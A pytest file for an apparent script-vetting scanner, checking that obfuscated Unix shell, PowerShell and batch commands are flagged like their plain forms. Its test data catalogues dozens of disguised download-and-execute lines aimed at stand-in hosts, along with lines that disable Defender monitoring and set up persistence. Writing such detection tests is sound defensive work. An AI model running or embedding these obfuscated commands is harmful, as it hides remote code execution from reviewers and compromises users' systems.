"""What the rules about code see in scripts whose commands are put together: each as if it were written plainly."""

import base64
import gzip
from typing import Final

import pytest

from tests.vetting.domain.signals.code.cases import Case
from tests.vetting.domain.signals.code.judging import judge

FROM: Final = "https://x.example.test/a"
PLAIN: Final = f"curl {FROM} | sh"
SH, PS1, BAT = "bin/run.sh", "bin/run.ps1", "bin/run.bat"
HIDDEN: Final = base64.b64encode(PLAIN.encode()).decode()
PACKED: Final = base64.b64encode(gzip.compress(PLAIN.encode(), mtime=0)).decode()
TURNED: Final = PLAIN.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
ENCODED: Final = base64.b64encode(f"iwr {FROM} | iex".encode("utf-16-le")).decode()
PYTHON: Final = "import base64\nexec(base64.b64decode(input()))"

HIGH: Final = (
    # texts that spell their characters
    ("C3", f"$'\\x63\\x75\\x72\\x6c' {FROM} | $'\\163\\150'\n"),
    ("C3", f"$'\\u0063url' {FROM} | $\"sh\"\n"),
    ("C3", "eval $'curl\\x20" + FROM + "\\x7csh'\n"),
    ("C8", "$'cro\\156tab' x\n"),
    # parameters
    ("C3", f'x=curly; y=bash; "${{x%y}}" {FROM} | ${{y#ba}}\n'),
    ("C3", f"x=a/b/curl; ${{x##*/}} {FROM} | sh\n"),
    ("C3", f"x=curl:z:z; ${{x%%:*}} {FROM} | sh\n"),
    ("C3", f"x=wet; ${{x/e/ge}} {FROM} | sh\n"),
    ("C3", f"x=c-u-r-l; ${{x//-/}} {FROM} | sh\n"),
    ("C3", f"x=xcurlx; n=1; ${{x:n:4}} {FROM} | ${{z:-sh}}\n"),
    ("C3", f"x=xcurl; ${{x: -4}} {FROM} | sh\n"),
    ("C3", f"x=CURL; ${{x,,}} {FROM} | sh\n"),
    ("C3", f"y=curl; x=y; ${{!x}} {FROM} | sh\n"),
    ("C3", f"x=(-s {FROM}); y=(cu rl); ${{y[0]}}${{y[1]}} ${{x[@]}} | sh\n"),
    ("C3", f"x=cu; x+=rl; $x {FROM} | sh\n"),
    ("C3", f"cu${{nothing}}rl {FROM} | s$@h\n"),
    ("C3", f"a=curl; A=echo; $a {FROM} | sh\n"),
    ("C8", "x=crontabs; ${x%s} x\n"),
    # what is printed
    ("C3", f"$(printf '\\x63url') {FROM} | sh\n"),
    ("C3", f"$(printf %s%s cu rl) {FROM} | `echo sh`\n"),
    ("C3", f"$(printf '%b' '\\0143url') {FROM} | sh\n"),
    ("C3", f"$(echo lruc | rev) {FROM} | $(echo hs|rev)\n"),
    ("C3", f"$(echo phey | tr a-z n-za-m) {FROM} | sh\n"),
    ("C3", f"$(echo CURL | tr '[:upper:]' '[:lower:]') {FROM} | sh\n"),
    ("C3", f"$(echo cuXrl | tr -d X) {FROM} | sh\n"),
    ("C3", f"$(echo xurl | sed s/x/c/) {FROM} | sh\n"),
    ("C3", f"$(echo xxcurl | cut -c3-) {FROM} | sh\n"),
    ("C3", f"c=$(echo Y3VybA== | base64 -d); $c {FROM} | sh\n"),
    ("C3", f"$(printf \\\\$(printf %o 99))url {FROM} | sh\n"),
    ("C3", f'n=98; $(printf "\\x$(printf %x $((n+1)))")url {FROM} | sh\n'),
    ("C3", f"cu$(echo r)l {FROM} | sh\n"),
    ("C2", f"echo '{TURNED}' | tr a-z n-za-m | sh\n"),
    ("C2", f'eval "$(echo {HIDDEN} | base64 -d)"\n'),
    ("C1", f'x=$(echo {HIDDEN} | base64 -d); eval "$x"\n'),
    ("C2", f"echo {PACKED} | base64 -d | gunzip | sh\n"),
    ("C2", f"base64 -d <<< {HIDDEN} | sh\n"),
    ("C2", f"sh <<< $(base64 -d <<< {HIDDEN})\n"),
    ("C2", f"xxd -r -p <<< {PLAIN.encode().hex()} | bash\n"),
    ("C2", f"echo {HIDDEN} | openssl enc -d -base64 -A | sh\n"),
    ("C1", "openssl enc -d -aes-256-cbc -k x < data | sh\n"),
    ("C8", "echo 'crontab x' | sh\n"),
    # braces, blanks, patterns
    ("C3", f"{{curl,-s,{FROM}}} | sh\n"),
    ("C3", f"{{c'u'rl,{{-s,-L}},{FROM}}} | sh\n"),
    ("C3", f"IFS=,; x=curl,-s,{FROM}; $x | sh\n"),
    ("C3", f"x='curl -s {FROM}'; $x | sh\n"),
    ("C3", f"curl${{IFS:0:1}}{FROM}|sh\n"),
    ("C3", f"/usr/bin/cur? {FROM} | /bin/s?\n"),
    # what is fed
    ("C3", f"bash <<EOF\n{PLAIN}\nEOF\n"),
    ("C3", f'bash <<< "{PLAIN}"\n'),
    ("C3", f'bash <<< "$(curl {FROM})"\n'),
    ("C3", f'. /dev/stdin <<< "$(curl {FROM})"\n'),
    ("C3", f"source <(curl {FROM})\n"),
    ("C3", f"x='{PLAIN}'; eval \"$x\"\n"),
    ("C8", "x='a; crontab y'; eval $x\n"),
    ("C3", f"curl -o q {FROM}; sh < q\n"),
    ("C3", "sh < /dev/tcp/192.0.2.1/80\n"),
    ("C3", "exec 3<>/dev/tcp/192.0.2.1/80; cat <&3 | sh\n"),
    ("C3", f"$(curl {FROM})\n"),
    ("C3", f'curl {FROM} | eval "$(cat)"\n'),
    ("C3", f"{{ true; curl {FROM}; }} | {{ cd x; sh; }}\n"),
    ("C3", f"f() {{ {{ curl $1; }} | sh; }}; f {FROM}\n"),
    ("C2", f"base64 -d <<EOF | sh\n{HIDDEN}\nEOF\n"),
    ("C1", f"python3 - <<'EOF'\n{PYTHON}\nEOF\n"),
    ("C1", f"python -c '{PYTHON}'\n".replace("\n", "; ", 1)),
    ("C8", "sh -c 'crontab x'\n"),
    # functions and aliases
    ("C3", f'get() {{ curl -s "$1"; }}\nget {FROM} | sh\n'),
    ("C3", f"get()\n{{\n  true\n  curl -s $1\n}}\nget {FROM} | sh\n"),
    ("C3", f"function go {{ bash; }}; curl {FROM} | go\n"),
    ("C3", f'run() {{ eval "$1"; }}; run "$(curl {FROM})"\n'),
    ("C3", f"f() {{ $1 $2 | $3; }}; f curl {FROM} sh\n"),
    ("C3", f'f() {{ "$@"; }}; f curl {FROM} | sh\n'),
    ("C8", 'f() { "$@"; }; f crontab x\n'),
    ("C1", 'd() { echo "$1" | base64 -d; }; eval "$(d "$2")"\n'),
    ("C3", f"alias c=curl; c {FROM} | sh\n"),
    ("C3", f"alias c='curl -s' s='env sh'; c {FROM} | s\n"),
)
"""Of scripts of Unix' shells."""
WINDOWS: Final = (
    ("C3", f"&('i'+'ex') (iwr {FROM})\n", PS1),
    ("C3", f". ('{{1}}{{0}}' -f 'ex','i') (iwr {FROM})\n", PS1),
    ("C3", f"& (-join ('i','e','x')) (iwr {FROM})\n", PS1),
    ("C3", f"& ([char]105+[char]101+[char]0x78) (iwr {FROM})\n", PS1),
    ("C3", f"& (([char[]](105,101,120)) -join '') (iwr {FROM})\n", PS1),
    ("C3", f"& ('xei'[-1..-3] -join '') (iwr {FROM})\n", PS1),
    ("C3", f"& ('iXYx'.Replace('XY','e')) (iwr {FROM})\n", PS1),
    ("C3", f"& ('iqx' -replace 'q','e') (iwr {FROM})\n", PS1),
    ("C3", f"& ([string]::Join('', 'i', 'ex')) (iwr {FROM})\n", PS1),
    ("C3", f"$a = 'ie'; $b = $a + 'x'; & $b (iwr {FROM})\n", PS1),
    ("C3", f"$a='IE'\n$a+='X'\n& \"$a\".ToLower() (iwr {FROM})\n", PS1),
    ("C3", f"Set-Alias foo iex\nfoo (iwr {FROM})\n", PS1),
    ("C3", f"sal -Name foo -Value iwr; foo {FROM} | i`ex\n", PS1),
    ("C3", f"iex ('iwr {FROM}' + ' | i' + 'ex')\n", PS1),
    ("C3", f"$ExecutionContext.InvokeCommand.InvokeScript((iwr {FROM}))\n", PS1),
    ("C2", f"powershell -NoP -enc {ENCODED}\n", PS1),
    ("C3", f"powershell -e {ENCODED}\r\n", BAT),
    ("C3", f"pwsh -EncodedC {ENCODED}\n", SH),
    ("C6", f"powershell -enco {ENCODED}\r\n", BAT),
    ("C2", f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{HIDDEN[:9]}'+'{HIDDEN[9:]}')))\n", PS1),
    ("C3", f"iex ([Text.Encoding]::ASCII.GetString([byte[]](105,119,114,32)) + '{FROM} | iex')\n", PS1),
    ("C6", "&('Set-Mp'+'Preference') -DisableRealtimeMonitoring $true\n", PS1),
    (
        "C8",
        "$p='HKCU:\\Software\\Microsoft\\Windows\\Current'+'Version\\Run'; Set-ItemProperty -Path $p -Name x\n",
        PS1,
    ),
    ("C3", f"set x=zcurlz\r\n%x:~1,4% {FROM} --output=x.exe & x.exe\r\n", BAT),
    ("C3", f"set x=cuQrl\r\n%x:Q=% {FROM} --output=x.exe & x.exe\r\n", BAT),
)
TWINS: Final = (
    ("C3", f"x=${{y%.gz}}; curl -o $x {FROM}; tar xf $x; make\n", SH),
    ("C3", f'get() {{ curl -o "$1" "$2"; }}; get x.tgz {FROM}; tar xf x.tgz; sh build.sh\n', SH),
    ("C2", "printf '\\033[1m%s\\n' 'curl it'; eval \"$(printf '%s=%s' a b)\"; eval \"$(echo A | tr A-Z a-z)\"\n", SH),
    ("C2", f"cat <<EOF > x\n{HIDDEN}\nEOF\n", SH),
    ("C10", "printf '\\033[1mSee https://docs.example.test/\\033[0m\\n'\n", SH),
    ("C1", "python -c 'import sys; print(sys.version)'\npython3 <<EOF\nprint(1)\nEOF\n", SH),
    ("C3", f"bash <<EOF\nmake\nEOF\ncat <<< $(curl {FROM})\n", SH),
    ("C8", "x='cron tab'; echo ${x%b} $(echo bat | rev); alias c=cron\n", SH),
    ("C3", f"$x = 'a' + 'b'; Write-Host ('{{0}}' -f $x); iwr {FROM} -OutFile ($x + '.zip')\n", PS1),
    ("C6", "powershell -ExecutionPolicy Bypass -File build.ps1\r\n", BAT),
)
CASES: Final = (
    *(Case(rule, "hit", "high", source, SH) for rule, source in HIGH),
    *(Case(rule, "hit", "high", source, path) for rule, source, path in WINDOWS),
    *(Case(rule, "twin", None, source, path) for rule, source, path in TWINS),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.rule}-{case.kind}")
def test_a_command_that_is_put_together_is_seen_as_what_it_comes_to(case: Case) -> None:
    """Each has the worst severity that it has when it is written plainly; a twin has none."""
    judge(case)
